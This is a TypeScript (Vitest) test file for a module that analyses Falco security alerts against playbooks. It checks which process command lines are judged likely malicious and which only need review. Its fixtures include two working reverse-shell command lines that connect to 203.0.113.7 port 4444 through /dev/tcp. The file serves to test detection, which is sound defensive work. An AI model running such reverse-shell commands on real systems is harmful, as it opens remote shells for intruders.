import { describe, expect, it } from "vitest";
import { analyse } from "../../../src/core/analysis/analyse.ts";
import type { Analysis } from "../../../src/core/analysis/analysis.ts";
import type { Alert } from "../../../src/core/falco/alert.ts";
import { anAlert, fixture, PLAYBOOKS, withFields } from "./alerts.ts";

describe("what is alarming under every rule", () => {
  it.each([
    { "proc.cmdline": "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" },
    { "proc.cmdline": "sh -c exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | sh" },
  ])("decides under a rule whose playbook does not think of it: %j", (fields) => {
    expect(of(withFields(fixture("shell-in-prod"), fields)).verdict.kind).toBe("likely malicious");
  });

  it("is not repeated where the playbook says it", () => {
    const { evidence } = of(fixture("fake-httpd"));

    expect(evidence.filter(({ signal }) => signal.includes("writable-path"))).toHaveLength(1);
  });

  it("is no port check and no checksum", () => {
    for (const cmdline of ["bash -c </dev/tcp/db/5432", "sh -c cat x | sha256sum"]) {
      expect(of(anAlert({ fields: { "proc.cmdline": cmdline } })).verdict.kind).toBe("needs review");
    }
  });
});

function of(alert: Alert): Analysis {
  return analyse(alert, PLAYBOOKS);
}
